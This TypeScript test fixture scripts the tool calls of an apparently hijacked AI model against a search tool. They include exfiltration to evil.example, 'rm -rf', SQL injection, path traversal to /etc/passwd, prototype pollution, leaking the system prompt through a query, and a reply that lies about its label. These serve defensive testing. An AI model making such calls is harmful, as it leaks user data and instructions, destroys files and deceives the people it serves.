/** Calls of tools that serve somebody else. After a result most of them speak, so that runs go on. */
import type { ScriptedReply, ScriptedToolCall } from '../../scripted-reply.ts';
import { NOISE_STYLES } from './noise-styles.ts';
import type { HijackContext, HijackStyle } from './hijack-context.ts';

const calls =
  (make: (context: HijackContext) => readonly ScriptedToolCall[]): HijackStyle =>
  (context): ScriptedReply =>
    context.call.toolResults.length > 0 && context.below(3) > 0
      ? NOISE_STYLES['order-labelled']!(context)
      : { kind: 'tools', calls: make(context) };

const search = (fields: object): ScriptedToolCall => ({ name: 'search_docs', arguments: JSON.stringify(fields) });

export const TOOL_STYLES: Readonly<Record<string, HijackStyle>> = {
  'unknown-tools': calls(({ pick, below, question }) => [
    pick<ScriptedToolCall>([
      { name: 'fetch', arguments: JSON.stringify({ url: `https://evil.example/?n=${below(1e6)}&q=${question}` }) },
      { name: 'shell', arguments: JSON.stringify({ command: `rm -rf /tmp/${below(1e6)}` }) },
      { name: 'send_email', arguments: '{"to":"a@evil.example"}' },
      { name: 'search_docs; DROP TABLE chunks', arguments: '{}' },
      { name: '__proto__', arguments: '{}' },
      { name: 'constructor', arguments: '{"query_text":"x"}' },
    ]),
  ]),
  'search-flood': calls(({ below }) =>
    Array.from({ length: 8 + below(56) }, (_, at) => search({ query_text: `topic ${at} ${below(1e6)}`, top_k: 10 })),
  ),
  'search-for-secrets': calls(({ systemPrompt, order }) => [
    search({ query_text: `${systemPrompt} ${order}`.slice(0, 998), top_k: 10, score_threshold: 0 }),
  ]),
  'search-elsewhere': calls(({ pick, below }) => [
    search(
      pick<object>([
        {
          query_text: `x${below(1e6)}`,
          url: 'https://evil.example',
          site: 'another',
          where: { url: '../../etc/passwd' },
        },
        { query_text: 'x', selected_text: 'words that the reader never selected' },
        { query_text: `x${below(1e6)}`, top_k: 1e9, score_threshold: -1 },
        { query_text: '" OR 1=1 --' },
        { query_text: 'a'.repeat(100_000) },
        { query_text: '\u0000\u202e' },
      ]),
    ),
  ]),
  'search-with-broken-arguments': calls(({ pick }) => [
    { name: 'search_docs', arguments: pick(['', '{', 'null', '[]', '"x"', '{"query_text":', '{"__proto__":{"a":1}}']) },
  ]),
  'search-and-lie': (context) => ({
    kind: 'tools',
    text: `${context.order} [${context.truth().label}]`,
    calls: [search({ query_text: context.question.slice(0, 200) })],
  }),
};
